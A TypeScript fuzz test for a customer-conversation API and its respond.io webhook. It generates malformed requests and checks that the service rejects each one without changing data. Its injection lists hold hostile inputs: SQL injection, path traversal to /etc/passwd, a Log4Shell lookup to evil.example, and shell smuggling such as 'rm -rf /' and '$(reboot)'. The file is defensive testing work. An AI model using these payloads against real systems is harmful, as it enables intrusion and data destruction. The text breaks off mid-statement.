import assert from 'node:assert/strict';
import { createHmac } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import fc from 'fast-check';
import { syncAgentsNow } from '../../src/agent-sync-schedule';
import { transcript } from '../../src/db/messages';
import { workflowIdForContact } from '../../src/workflows/definitions';
import { Harness } from '../support/harness';
import { contactAssigneeUpdated, conversationClosed, conversationOpened, messageReceived, signRespondioBody } from '../support/respondio-payloads';
import { type RespondioStandIn, startRespondioStandIn } from '../support/respondio-standin';

/**
 * Bad input, generated: every endpoint and the respond.io webhook get requests that must be refused (wrong types,
 * missing fields, oversized strings and bodies, bad UTF-8, control characters, injection-looking ids, wrong content
 * types, missing or wrong keys and signatures). Every answer must be a 4xx `{ error: { code, message } }`, and
 * afterwards no row and no workflow may differ. BAD_INPUT_SEED=<seed> replays a run.
 */

const TOKEN = 'respondio-test-token-bad-input';
const SIGNING_KEY = 'whsec-bad-input-0123456789abcdef';
const SEED = process.env['BAD_INPUT_SEED'] ? Number(process.env['BAD_INPUT_SEED']) : Date.now() % 2_147_483_647;
const CONCURRENCY = 8;
const MIN_REQUESTS = 1_000;
const KB = 1024;

type Scope = 'admin' | 'integration' | 'read' | 'codec';
/** Valid bodies of a route, for requests refused for something else (or made bad one field at a time). */
type Valid = fc.Arbitrary<Record<string, unknown>>;

interface BadRequest {
  method: string;
  /** Path and query as sent, already encoded. */
  path: string;
  headers: Record<string, string>;
  body?: string | Uint8Array;
  /** Sent as a stream without Content-Length, so the size limit is met while reading. */
  chunked?: boolean;
  /** The statuses this request may get; all 4xx. */
  expect: readonly number[];
}

interface Generator {
  name: string;
  runs: number;
  arb: fc.Arbitrary<BadRequest>;
}

/** What exists before the fuzzing: a request that got through to any of these would change something real. */
interface Fixtures {
  keys: Record<Scope, string>;
  revokedKey: string;
  /** A contact whose conversation is open and waiting for the email. */
  openContact: string;
  agentId: string;
  customerEmail: string;
  codecKeyId: string;
}

// ---------------------------------------------------------------------------------------------------------------
// Values a schema refuses

/** The documented id rule: what a contact or agent id may be. Every "bad id" below breaks it. */
const ID_RULE = /^[A-Za-z0-9._:@+-]{1,128}$/;
const ID_CHARS = [...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789._:@+-'];
const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;

const idChars = (minLength: number, maxLength: number) => fc.string({ unit: fc.constantFrom(...ID_CHARS), minLength, maxLength });
/** Well-formed, but nothing has it: a request naming one is a 404, never a write. */
const unknownId = idChars(1, 40).map((s) => `nobody-${s}`);
const freshContactId = idChars(4, 24).map((s) => `bad-input-${s}`);
const freshAgentId = idChars(4, 24).map((s) => `bad-input-agent-${s}`);

const controlChar = fc.oneof(
  fc.integer({ min: 0, max: 0x1f }).map((code) => String.fromCharCode(code)),
  fc.constantFrom('\u007f', '\u0085', '\u2028', '\u202e', '\ufeff'),
);
const forbiddenIdChar = fc.oneof(
  fc.constantFrom(...' /\\\'"<>;%#?&=,*!~()[]{}|^`$'),
  controlChar,
  fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }).filter((c) => !/^[A-Za-z0-9._:@+-]$/.test(c)),
);
const INJECTIONS = [
  "'; DROP TABLE agents; --",
  "x' OR '1'='1",
  '../../etc/passwd',
  '..\\..\\boot.ini',
  '<script>alert(1)</script>',
  '${env:DATABASE_URL}',
  '${jndi:ldap://evil.example/a}',
  '{{constructor.constructor("return process")()}}',
  '%00',
  'a\u0000b',
  '$(reboot)',
  '`id`',
  'c-1; rm -rf /',
  '\r\nSet-Cookie: x=1',
  '{"$ne": null}',
  'conversation-c-1\u202egnp.exe',
  '',
];
/** Strings no id may be: too long, or with a character outside [A-Za-z0-9._:@+-]. */
const badIdText = fc
  .oneof(
    idChars(129, 600),
    fc
      .tuple(idChars(0, 20), fc.array(forbiddenIdChar, { minLength: 1, maxLength: 4 }), idChars(0, 20))
      .map(([head, bad, tail]) => `${head}${bad.join('')}${tail}`),
    fc.constantFrom(...INJECTIONS),
    fc.tuple(idChars(1, 10), fc.constantFrom(...INJECTIONS)).map(([head, injection]) => head + injection),
  )
  .filter((s) => !ID_RULE.test(s));

/** Path segments that decode to a bad id, do not decode at all, or smuggle a slash. */
const RAW_BAD_PATH_IDS = [
  '..%2F..%2Fetc%2Fpasswd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  'a%2Fb',
  'a%5Cb',
  'a%252Fb',
  '%00',
  'a%00b',
  '%',
  '%zz',
  'a%E0%A4%A',
  '%C0%AF',
  '%FF',
  '%ED%A0%80',
  '%F4%90%80%80',
  "'%3B%20DROP%20TABLE%20agents%3B--",
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '%24%7Benv%3AX%7D',
  'a%20b',
  '%E2%80%AE',
  'a%0D%0Ab',
];
const badPathId = fc.oneof(
  badIdText.filter((s) => s !== '' && !LONE_SURROGATE.test(s)).map((s) => encodeURIComponent(s)),
  fc.constantFrom(...RAW_BAD_PATH_IDS),
);

const jsonObject = fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 3 });
const jsonArray = fc.array(fc.jsonValue({ maxDepth: 1 }), { maxLength: 3 });
const aNumber = fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }));
/** Not a string (null is separate: several fields allow it). */
const notAString = fc.oneof(aNumber, fc.boolean(), jsonArray, jsonObject);
const notABoolean = fc.oneof(fc.integer(), fc.constantFrom('true', 'false', 'yes', '1', '', 'on'), fc.constant(null), jsonArray, jsonObject);
const notAnObject = fc.oneof(fc.string({ maxLength: 20 }), aNumber, fc.boolean(), jsonArray);
const notAnArray = fc.oneof(fc.string({ maxLength: 20 }), aNumber, fc.boolean(), jsonObject, fc.constant(null));
/** Refused by `int().min(0).max(1000)`, never `null` (PUT allows it). */
const badCapacity = fc.oneof(
  fc.double({ noNaN: true, noDefaultInfinity: true }).filter((n) => !Number.isInteger(n)),
  fc.integer({ max: -1 }),
  fc.integer({ min: 1001 }),
  fc.constantFrom('3', '', 'ten'),
  fc.boolean(),
  jsonArray,
  jsonObject,
);
/** Longer than `max` after trimming: no whitespace inside, maybe some around. */
const textOver = (max: number, extra = 1_500) =>
  fc
    .tuple(fc.string({ unit: fc.constantFrom(...'abcxyzABC0189-_.é漢字'), minLength: max + 1, maxLength: max + extra }), fc.constantFrom('', ' ', '\t\n'))
    .map(([text, pad]) => `${pad}${text}${pad}`);
const blank = fc.constantFrom('', ' ', '   ', '\t', '\n \r');
const badEmail = fc.oneof(
  fc.string({ maxLength: 60 }).filter((s) => !s.includes('@')),
  fc.constantFrom(
    '@',
    'ana@',
    '@example.com',
    'ana@@example.com',
    'a..b@example.com',
    '.ana@example.com',
    'a b@example.com',
    'ana@example',
    "'; DROP TABLE agents;--",
  ),
  fc.integer({ min: 243, max: 400 }).map((n) => `${'a'.repeat(n)}@example.com`),
);
const badLanguage = fc.oneof(
  fc.constantFrom('e', 'english', 'e1', '12', 'es-', '-es', 'es--ES', 'es_ES_', 'abcd-x', 'es-123456789', 'es ES', 'español', '<script>'),
  fc.tuple(fc.constantFrom('es', 'pt', 'zh'), fc.constantFrom(...'!@#$%^&*()+=[]{}|;:,.<>/?`~é'), fc.string({ maxLength: 4 })).map(([a, b, c]) => a + b + c),
);
const badTimestamp = fc.oneof(
  fc.constantFrom('yesterday', 'now', '', '2024-01-01', '2024-01-01T00:00:00', '2024-13-01T00:00:00Z', '2024-02-30T00:00:00Z', '2024-01-01T25:00:00Z'),
  fc.constantFrom('2024-01-01 00:00:00Z', '1700000000', '2024-01-01T00:00:00+25:00', "2024-01-01T00:00:00Z'; DROP TABLE messages;--"),
  fc.string({ maxLength: 30 }).filter((s) => !s.includes('T')),
);
const BAD_UTF8: readonly number[][] = [
  [0xff],
  [0xfe],
  [0x80],
  [0xc3],
  [0xc0, 0xaf],
  [0xe0, 0x80, 0xaf],
  [0xed, 0xa0, 0x80],
  [0xf4, 0x90, 0x80, 0x80],
  [0xf8, 0x88, 0x80, 0x80, 0x80],
];
const badUtf8Bytes = fc.array(fc.constantFrom(...BAD_UTF8), { minLength: 1, maxLength: 3 }).map((parts) => parts.flat());

// ---------------------------------------------------------------------------------------------------------------
// Bodies: one field of a valid body made bad

const REMOVE = Symbol('remove');

function withField(base: Record<string, unknown>, path: readonly string[], value: unknown): unknown {
  const copy = structuredClone(base);
  let target = copy as Record<string, unknown>;
  for (const key of path.slice(0, -1)) target = target[key] as Record<string, unknown>;
  const last = path[path.length - 1]!;
  if (value === REMOVE) delete target[last];
  else target[last] = value;
  return copy;
}

/** A valid body with exactly one field replaced by a value its schema refuses (or removed, when required). */
function oneFieldBad(base: Valid, fields: Record<string, fc.Arbitrary<unknown>>): fc.Arbitrary<unknown> {
  const bad = Object.entries(fields).map(([path, value]) => fc.tuple(fc.constant(path.split('.')), value));
  return fc.tuple(base, fc.oneof(...bad)).map(([body, [path, value]]) => withField(body, path, value));
}

/** The first arbitrary most of the time (one bad field), the others now and then (whole-body cases). */
function mostly(first: fc.Arbitrary<unknown>, ...others: Array<fc.Arbitrary<unknown>>): fc.Arbitrary<unknown> {
  return fc.oneof({ weight: 4 * others.length, arbitrary: first }, ...others);
}

/** Bodies that are no object at all, or an empty one (every body-taking route needs fields). */
function notAnObjectBody(...more: Array<fc.Arbitrary<unknown>>): fc.Arbitrary<unknown> {
  return fc.oneof(fc.constant({}), jsonArray, ...more);
}

/** An extra key for strict schemas; `__proto__` and friends are left out so the case stays unambiguous. */
const unknownKey = (known: readonly string[]) =>
  fc.string({ minLength: 1, maxLength: 12 }).filter((k) => !known.includes(k) && !['__proto__', 'constructor', 'prototype'].includes(k));

// ---------------------------------------------------------------------------------------------------------------
// Requests

const bearer = (key: string) => ({ authorization: `Bearer ${key}` });

/** A body sent as JSON, as it is (not necessarily valid JSON). */
function textRequest(key: string, method: string, path: string, body: string | Uint8Array, expect: readonly number[] = [400]): BadRequest {
  return { method, path, headers: { ...bearer(key), 'content-type': 'application/json' }, body, expect };
}

function jsonRequest(key: string, method: string, path: string, body: unknown, expect: readonly number[] = [400]): BadRequest {
  return textRequest(key, method, path, JSON.stringify(body), expect);
}

const WRONG_CONTENT_TYPES = [
  'text/plain',
  'text/plain;charset=UTF-8',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=bad-input-boundary',
  'application/xml',
  'application/octet-stream',
  'application/vnd.api+json',
  'application/json-patch+json',
  'text/json',
  'application/jsonx',
  '',
];

function asContentType(json: string, contentType: string): { headers: Record<string, string>; body: string | Uint8Array } {
  if (contentType === '') return { headers: {}, body: new TextEncoder().encode(json) };
  if (contentType.startsWith('multipart/')) {
    const part = [
      '--bad-input-boundary',
      'Content-Disposition: form-data; name="body"',
      'Content-Type: application/json',
      '',
      json,
      '--bad-input-boundary--',
      '',
    ];
    return { headers: { 'content-type': contentType }, body: part.join('\r\n') };
  }
  if (contentType === 'application/x-www-form-urlencoded') return { headers: { 'content-type': contentType }, body: `body=${encodeURIComponent(json)}` };
  return { headers: { 'content-type': contentType }, body: json };
}

/** Where a body's text gets what JSON.stringify cannot make: bad bytes, deep nesting. */
const MARK = 'SPLICE-HERE';

/** The bytes of `text` with `bad` where MARK is. */
function splice(text: string, bad: number[]): Uint8Array {
  const [head, tail] = text.split(MARK) as [string, string];
  return Buffer.concat([Buffer.from(head), Buffer.from(bad), Buffer.from(tail)]);
}

/** Bad bytes right after the opening brace: the JSON cannot parse, whatever the decoder makes of them. */
const afterBrace = (json: string) => json.replace('{', `{${MARK}`);

/** Arrays or objects nested thousands deep (under 100 kB), as the value of a field that must be a string. */
const deepValue = fc.oneof(
  fc.integer({ min: 1_000, max: 45_000 }).map((depth) => `${'['.repeat(depth)}${']'.repeat(depth)}`),
  fc.integer({ min: 1_000, max: 15_000 }).map((depth) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`),
);
const nestedAt = (valid: Valid, field: readonly string[]) =>
  fc.tuple(valid, deepValue).map(([body, deep]) => JSON.stringify(withField(body, field, MARK)).replace(`"${MARK}"`, deep));

const INVALID_JSON = [
  "{'contact': {'id': 'x'}}",
  '{contact: {id: "x"}}',
  '{"a": NaN}',
  '{"a": 1,}',
  '/* comment */ {}',
  '{"a": undefined}',
  '{"a": "\\x41"}',
  '{"a": "\\u12"}',
  '{"a": "unterminated}',
  '\u0000',
  '[1, 2',
  '01',
  '-',
  '{"a": 1}{"b": 2}',
  'nul',
  'tru',
  '"just a string"',
  '42',
  'null',
  'true',
];

interface RawBodyOptions {
  key: string;
  method: string;
  path: string;
  /** Valid bodies for the route: refused here only for how they are sent. */
  valid: Valid;
  /** Where bad UTF-8 inside a value still breaks the body: an id (its rule is ASCII). */
  idField?: readonly string[];
  /** The route ignores its body (close): a body that is not read would let it through. */
  bodyIgnored?: boolean;
  bodyLimit?: number;
}

/** The same route, its body sent wrong: not JSON, bad UTF-8, another content type or charset, unknown encoding. */
function rawBodies({ key, method, path, valid, idField, bodyIgnored = false }: RawBodyOptions): fc.Arbitrary<BadRequest> {
  const json = { ...bearer(key), 'content-type': 'application/json' };
  const invalidJson = valid.chain((body) => {
    const text = JSON.stringify(body);
    return fc.oneof(
      fc.integer({ min: 1, max: text.length - 1 }).map((cut) => text.slice(0, cut)),
      fc.constantFrom('x', '}', ',', ']', '\u0000').map((suffix) => text + suffix),
      fc.constantFrom(...INVALID_JSON),
    );
  });
  const structuralUtf8 = fc.tuple(valid, badUtf8Bytes).map(([body, bad]) => splice(afterBrace(JSON.stringify(body)), bad));
  // Decoded, bad UTF-8 becomes U+FFFD: only where that is refused too (an id) does it stay bad input.
  const utf8InId = idField
    ? fc.tuple(valid, badUtf8Bytes).map(([body, bad]) => splice(JSON.stringify(withField(body, idField, `id-${MARK}-x`)), bad))
    : structuralUtf8;
  const variants: Array<fc.Arbitrary<BadRequest>> = [
    invalidJson.map((body) => ({ method, path, headers: json, body, expect: [400] })),
    fc.oneof(structuralUtf8, utf8InId).map((body) => ({ method, path, headers: json, body, expect: [400] })),
    fc.tuple(valid, fc.constantFrom('latin1', 'iso-8859-1', 'koi8-r', 'windows-1252', 'ascii', 'x-unknown')).map(([body, charset]) => ({
      method,
      path,
      headers: { ...bearer(key), 'content-type': `application/json; charset=${charset}` },
      body: JSON.stringify(body),
      expect: [415],
    })),
    fc
      // Brotli has no header to fail on: garbage might decode to nothing, and an empty body is a valid close.
      .tuple(valid, fc.constantFrom(...(bodyIgnored ? [] : ['br']), 'gzip', 'deflate', 'compress', 'zstd', 'x-unknown', 'identity, gzip'))
      .map(([body, encoding]) => ({
        method,
        path,
        headers: { ...json, 'content-encoding': encoding },
        body: JSON.stringify(body),
        expect: [400, 415],
      })),
  ];
  if (!bodyIgnored) {
    variants.push(
      fc.tuple(valid, fc.constantFrom(...WRONG_CONTENT_TYPES)).map(([body, contentType]) => {
        const sent = asContentType(JSON.stringify(body), contentType);
        return { method, path, headers: { ...bearer(key), ...sent.headers }, body: sent.body, expect: [400] };
      }),
    );
  }
  return fc.oneof(...variants);
}

/** Bodies over the route's limit (100 kB for /v1, 4 MB for the codec), sized up front or streamed. */
function oversized({ key, method, path, valid, bodyLimit = 100 * KB }: RawBodyOptions): fc.Arbitrary<BadRequest> {
  return fc.tuple(valid, fc.integer({ min: bodyLimit + 1, max: bodyLimit * 2 }), fc.boolean()).map(([body, size, chunked]) => ({
    method,
    path,
    headers: { ...bearer(key), 'content-type': 'application/json' },
    body: JSON.stringify({ ...body, padding: 'x'.repeat(size) }),
    chunked,
    expect: [413],
  }));
}

// ---------------------------------------------------------------------------------------------------------------
// The routes

/** Every route of the API table, each with a request that is valid but for its key, and the scopes it allows. */
function routeTable(f: Fixtures) {
  const open = f.openContact;
  return [
    { method: 'POST', path: '/v1/conversations', body: freshContactId.map((id) => ({ contact: { id } })), scopes: ['integration'] },
    { method: 'GET', path: `/v1/conversations/${open}`, scopes: ['integration', 'read'] },
    {
      method: 'POST',
      path: `/v1/contacts/${open}/messages`,
      body: idChars(1, 30).map((messageId) => ({ messageId: `bad-input-${messageId}`, text: 'ana@example.com' })),
      scopes: ['integration'],
    },
    { method: 'GET', path: `/v1/contacts/${open}/messages`, scopes: ['integration', 'read'] },
    { method: 'DELETE', path: `/v1/contacts/${open}`, scopes: [] },
    { method: 'POST', path: `/v1/conversations/${open}/close`, scopes: ['integration'] },
    { method: 'POST', path: `/v1/conversations/${open}/transfer`, body: fc.constant({ agentId: f.agentId, force: true }), scopes: [] },
    { method: 'PUT', path: `/v1/agents/${f.agentId}`, body: fc.constant({ name: 'Renamed', team: 'vip', capacity: 0, online: false }), scopes: [] },
    { method: 'PATCH', path: `/v1/agents/${f.agentId}`, body: fc.constant({ online: false, capacity: 0 }), scopes: [] },
    { method: 'GET', path: '/v1/agents', scopes: ['read'] },
    { method: 'GET', path: '/v1/queue', scopes: ['read'] },
    {
      method: 'PUT',
      path: `/v1/directory/customers/${encodeURIComponent(f.customerEmail)}`,
      body: fc.constant({ customerType: 'regular', accountManager: null }),
      scopes: [],
    },
    { method: 'GET', path: `/v1/directory/customers?email=${encodeURIComponent(f.customerEmail)}`, scopes: ['read'] },
    {
      method: 'POST',
      path: '/codec/encode',
      body: fc.constant({ payloads: [{ metadata: { encoding: b64('json/plain') }, data: b64('{}') }] }),
      scopes: ['codec'],
    },
    {
      method: 'POST',
      path: '/codec/decode',
      body: fc.constant({ payloads: [{ metadata: { encoding: b64('json/plain') }, data: b64('{}') }] }),
      scopes: ['codec'],
    },
  ] as const satisfies ReadonlyArray<{ method: string; path: string; body?: fc.Arbitrary<unknown>; scopes: readonly Scope[] }>;
}

function b64(text: string | Uint8Array): string {
  return Buffer.from(text).toString('base64');
}

function generators(f: Fixtures): Generator[] {
  const admin = f.keys.admin;
  const open = f.openContact;
  const routes = routeTable(f);
  const anyRoute = fc.constantFrom(...routes);
  const requestFor = (route: (typeof routes)[number], headers: Record<string, string>, body: unknown, expect: readonly number[]): BadRequest => ({
    method: route.method,
    path: route.path,
    headers: body === undefined ? headers : { ...headers, 'content-type': 'application/json' },
    body: body === undefined ? undefined : JSON.stringify(body),
    expect,
  });
  const routeBody = (route: (typeof routes)[number]) => ('body' in route ? (route.body as fc.Arbitrary<unknown>) : fc.constant(undefined));

  // -- keys --------------------------------------------------------------------------------------------------------
  const badAuthorization = fc.oneof(
    fc.constant(undefined),
    fc.constantFrom('', 'Bearer', 'Bearer ', 'Basic YWRtaW46YWRtaW4=', 'Token abc', 'Bearer null', 'Bearer undefined', 'Bearer a b', "Bearer ' OR 1=1 --"),
    fc.constantFrom(
      `Bearer ${admin}x`,
      `Bearer ${admin.slice(0, -1)}`,
      `Bearer ${admin.toUpperCase()}`,
      `Bearer ${admin} ${admin}`,
      `Basic ${admin}`,
      `Bearer ${f.revokedKey}`,
      admin,
    ),
    fc.string({ unit: 'grapheme-ascii', maxLength: 60 }).map((s) => `Bearer vr_${s.replace(/\s/g, '')}`),
    fc.string({ unit: fc.constantFrom(...'aéÿü0_-'), minLength: 1, maxLength: 40 }).map((s) => `Bearer ${s}`),
  );
  const unauthenticated = fc.tuple(anyRoute, badAuthorization, fc.boolean()).chain(([route, authorization, keyInOtherHeader]) =>
    routeBody(route).map((body) => {
      const headers: Record<string, string> = authorization === undefined ? {} : { authorization };
      if (keyInOtherHeader) headers['x-api-key'] = admin;
      return requestFor(route, headers, body, [401]);
    }),
  );
  const codecKeyInPath = fc
    .tuple(fc.constantFrom('encode', 'decode'), fc.oneof(fc.constantFrom(f.revokedKey, f.keys.read, `${f.keys.codec}x`, 'x'), badPathId))
    .map(([operation, key]): BadRequest => ({
      ...jsonRequest(admin, 'POST', `/codec/ui/${key}/${operation}`, { payloads: [] }),
      headers: { 'content-type': 'application/json' },
      expect: [400, 401, 403, 404],
    }));
  const forbidden = anyRoute.chain((route) => {
    const refused = (['integration', 'read', 'codec'] as const).filter((scope) => !(route.scopes as readonly Scope[]).includes(scope));
    return fc.tuple(fc.constantFrom(...refused), routeBody(route)).map(([scope, body]) => requestFor(route, bearer(f.keys[scope]), body, [403]));
  });

  // -- POST /v1/conversations ----------------------------------------------------------------------------------------
  const contactBase: Valid = fc.record({
    contact: fc.record(
      {
        id: freshContactId,
        firstName: fc.constant('Bad'),
        lastName: fc.constant('Input'),
        email: fc.constant('bad-input@example.com'),
        language: fc.constant('es'),
      },
      { requiredKeys: ['id'] },
    ),
  });
  const startBody = mostly(
    oneFieldBad(contactBase, {
      contact: fc.oneof(fc.constant(REMOVE), fc.constant(null), notAnObject),
      'contact.id': fc.oneof(fc.constant(REMOVE), fc.constant(null), notAString, badIdText),
      'contact.firstName': fc.oneof(fc.constant(null), notAString, textOver(200)),
      'contact.lastName': fc.oneof(fc.constant(null), notAString, textOver(200)),
      'contact.phone': fc.oneof(fc.constant(null), notAString, textOver(200)),
      'contact.channel': fc.oneof(fc.constant(null), notAString, textOver(200)),
      'contact.email': fc.oneof(notAString, badEmail),
      'contact.language': fc.oneof(notAString, badLanguage),
    }),
    notAnObjectBody(fc.array(contactBase, { minLength: 1, maxLength: 2 })),
  );

  // -- /v1/contacts/{id}/messages and the conversation routes --------------------------------------------------------
  const messageBase: Valid = fc.record(
    {
      messageId: idChars(1, 30).map((s) => `bad-input-${s}`),
      text: fc.constantFrom('ana@example.com', 'hello'),
      timestamp: fc.constant('2024-05-01T10:00:00Z'),
    },
    { requiredKeys: ['messageId', 'text'] },
  );
  const messageBody = mostly(
    oneFieldBad(messageBase, {
      messageId: fc.oneof(fc.constant(REMOVE), fc.constant(null), notAString, fc.constant(''), textOver(200)),
      text: fc.oneof(fc.constant(REMOVE), fc.constant(null), notAString, textOver(10_000, 3_000)),
      timestamp: fc.oneof(fc.constant(null), notAString, badTimestamp),
    }),
    notAnObjectBody(),
  );
  const messagesPath = (id: string) => `/v1/contacts/${id}/messages`;

  const transferBase: Valid = fc.oneof(
    fc.record({ agentId: fc.constant(f.agentId), force: fc.boolean(), reason: fc.constant('bad input') }, { requiredKeys: ['agentId'] }),
    fc.record({ team: fc.constant('support'), force: fc.boolean(), reason: fc.constant('bad input') }, { requiredKeys: ['team'] }),
  );
  const transferKeys = ['agentId', 'team', 'force', 'reason'];
  const transferBody = mostly(
    oneFieldBad(transferBase, {
      agentId: fc.oneof(fc.constant(null), notAString, badIdText),
      team: fc.oneof(fc.constant(null), notAString, blank, textOver(100)),
      force: notABoolean,
      reason: fc.oneof(fc.constant(null), notAString, textOver(500)),
    }),
    transferBase.map((body) => withField(body, ['agentId' in body ? 'team' : 'agentId'], 'agentId' in body ? 'support' : f.agentId)),
    fc.constantFrom({}, { force: true }, { reason: 'no target' }),
    fc.tuple(transferBase, unknownKey(transferKeys), fc.jsonValue({ maxDepth: 1 })).map(([body, key, value]) => ({ ...body, [key]: value })),
    jsonArray,
  );
  const transferPath = (id: string) => `/v1/conversations/${id}/transfer`;

  // -- agents ----------------------------------------------------------------------------------------------------
  const agentBase: Valid = fc.record(
    {
      name: fc.constant('Bad Input'),
      team: fc.constant('support'),
      role: fc.constantFrom('agent', 'manager'),
      online: fc.boolean(),
      capacity: fc.integer({ min: 0, max: 1000 }),
    },
    { requiredKeys: ['name', 'team'] },
  );
  const putAgentBody = mostly(
    oneFieldBad(agentBase, {
      name: fc.oneof(fc.constant(REMOVE), fc.constant(null), notAString, blank, textOver(200)),
      team: fc.oneof(fc.constant(REMOVE), fc.constant(null), notAString, blank, textOver(100)),
      role: fc.oneof(fc.constant(null), notAString, fc.constantFrom('admin', 'AGENT', 'Manager', 'boss', '', "agent'; --")),
      online: notABoolean,
      capacity: badCapacity,
      email: fc.oneof(notAString, badEmail),
      respondioUserId: fc.oneof(notAString, fc.constantFrom('', 'abc', '12a', ' 12', '12 ', '-1', '1.5', '１２', '1'.repeat(21), '1; DROP TABLE agents')),
    }),
    notAnObjectBody(),
  );
  const patchKeys = ['online', 'capacity'];
  const patchBase: Valid = fc.record({ online: fc.boolean(), capacity: fc.integer({ min: 0, max: 1000 }) }, { requiredKeys: ['online'] });
  const patchAgentBody = mostly(
    oneFieldBad(patchBase, { online: notABoolean, capacity: fc.oneof(fc.constant(null), badCapacity) }),
    fc.constant({}),
    fc.tuple(patchBase, unknownKey(patchKeys), fc.jsonValue({ maxDepth: 1 })).map(([body, key, value]) => ({ ...body, [key]: value })),
    fc.tuple(unknownKey(patchKeys), fc.jsonValue({ maxDepth: 1 })).map(([key, value]) => ({ [key]: value })),
    jsonArray,
  );
  const agentPath = (id: string) => `/v1/agents/${id}`;

  // -- the customer directory ------------------------------------------------------------------------------------------
  const customerBase: Valid = fc.record(
    { customerType: fc.constantFrom('VIP', 'regular'), accountManager: fc.constant(f.agentId), name: fc.constant('Bad Input') },
    { requiredKeys: ['customerType'] },
  );
  const putCustomerBody = mostly(
    oneFieldBad(customerBase, {
      customerType: fc.oneof(fc.constant(REMOVE), fc.constant(null), notAString, blank, textOver(100)),
      accountManager: fc.oneof(notAString, badIdText),
      name: fc.oneof(fc.constant(null), notAString, textOver(200)),
    }),
    notAnObjectBody(),
  );
  const customerPath = (email: string) => `/v1/directory/customers/${encodeURIComponent(email)}`;
  const freshEmail = idChars(1, 20).map((s) => `bad-input-${s.replace(/[^A-Za-z0-9]/g, 'x')}@example.com`);

  // -- the codec ---------------------------------------------------------------------------------------------------
  const notBase64 = fc.oneof(
    fc.constantFrom('!!!!', 'a b', '%%%%', 'ä', 'a', 'ab=', '====', 'YQ==x', '<script>', "'; DROP TABLE"),
    fc.tuple(fc.base64String({ maxLength: 12 }), fc.constantFrom(...'!#$%&*?@ ä\u0000')).map(([s, bad]) => s + bad),
  );
  const payloadBase = fc.record({ metadata: fc.constant({ encoding: b64('json/plain') }), data: fc.constant(b64('{"a":1}')) });
  const codecBody = fc.oneof(
    fc.constant({}),
    fc.record({ payloads: notAnArray }),
    fc.record({ payloads: fc.array(fc.oneof(notAnObject, fc.constant(null)), { minLength: 1, maxLength: 3 }) }),
    oneFieldBad(payloadBase, {
      metadata: fc.oneof(fc.string({ maxLength: 8 }), aNumber, fc.boolean(), jsonArray),
      'metadata.encoding': fc.oneof(notBase64, aNumber, fc.boolean(), jsonObject, jsonArray),
      data: fc.oneof(notBase64, aNumber, fc.boolean(), jsonObject, jsonArray),
      externalPayloads: fc.oneof(
        fc.string(),
        aNumber,
        fc.constant([{ sizeBytes: -1 }]),
        fc.constant([{ sizeBytes: 'abc' }]),
        fc.constant([{ sizeBytes: 1.5 }]),
        fc.constant([1]),
      ),
    }).map((payload) => ({ payloads: [payload] })),
    jsonArray,
  );
  /** Encrypted-looking payloads our codec cannot open: unknown or missing key id, truncated, or altered. */
  const undecodable = fc
    .tuple(
      fc.oneof(
        fc.constant(f.codecKeyId),
        fc.constant(undefined),
        fc.stringMatching(/^[a-z]{1,10}$/).map((s) => `other-${s}`),
      ),
      fc.uint8Array({ maxLength: 120 }),
    )
    .map(([keyId, data]) => ({
      payloads: [
        {
          metadata: { encoding: b64('binary/encrypted'), ...(keyId === undefined ? {} : { 'encryption-key-id': b64(keyId) }) },
          data: b64(data),
        },
      ],
    }));
  const codecValid: Valid = fc.constant({ payloads: [{ metadata: { encoding: b64('json/plain') }, data: b64('{}') }] });

  // -- no such route -------------------------------------------------------------------------------------------------
  const ROUTED = new Set([
    ...routes.map((route) => `${route.method} ${route.path.split('?')[0]}`),
    'POST /v1/webhooks/respondio',
    'GET /healthz',
    'GET /readyz',
  ]);
  const paths = [...new Set([...ROUTED].map((route) => route.split(' ')[1]!)), `/v1/contacts/${open}`];
  const noSuchRoute = fc.oneof(
    fc
      .tuple(fc.constantFrom('GET', 'POST', 'PUT', 'PATCH', 'DELETE'), fc.constantFrom(...paths))
      .filter(([method, path]) => !ROUTED.has(`${method} ${path}`))
      .map(([method, path]) =>
        method === 'GET' || method === 'DELETE'
          ? { method, path, headers: bearer(admin), expect: [404, 405] }
          : { ...jsonRequest(admin, method, path, { a: 1 }), expect: [404, 405] },
      ),
    fc
      .tuple(fc.constantFrom('GET', 'POST'), fc.constantFrom('/v1/x-', '/v2/', '/v1/conversations/x/x-', '/v1/agents/x/x-', '/codec/x-'), idChars(1, 20))
      .map(([method, prefix, rest]) => ({ method, path: `${prefix}${rest}`, headers: bearer(admin), expect: [404, 405] })),
  );

  // -- the respond.io webhook ------------------------------------------------------------------------------------------
  const webhookPath = '/v1/webhooks/respondio';
  const contactNumber = fc.integer({ min: 7_000_000_000, max: 7_999_999_999 });
  const validEvent = fc
    .tuple(fc.constantFrom('opened', 'message', 'closed', 'assignee'), contactNumber, fc.uuid(), fc.integer({ min: 1, max: 2_000_000_000 }))
    .map(([type, id, eventId, messageId]): Record<string, unknown> => {
      const event =
        type === 'opened'
          ? conversationOpened({ id, email: null })
          : type === 'message'
            ? messageReceived({ id }, { messageId, text: 'ana@example.com' })
            : type === 'closed'
              ? conversationClosed({ id })
              : contactAssigneeUpdated({ id }, { id: 5501, firstName: 'Sam', lastName: 'Agent', email: 'sam@example.com' });
      return { ...event, event_id: eventId };
    });
  const signed = (raw: string | Uint8Array, contentType = 'application/json'): BadRequest => ({
    method: 'POST',
    path: webhookPath,
    headers: {
      ...(contentType ? { 'content-type': contentType } : {}),
      'x-webhook-signature': typeof raw === 'string' ? signRespondioBody(raw, SIGNING_KEY) : signBytes(raw, SIGNING_KEY),
    },
    body: raw,
    expect: [400],
  });
  const webhookContentType = fc.constantFrom('application/json', 'text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', '');
  const badSignature = validEvent.chain((event) => {
    const raw = JSON.stringify(event);
    const correct = signRespondioBody(raw, SIGNING_KEY);
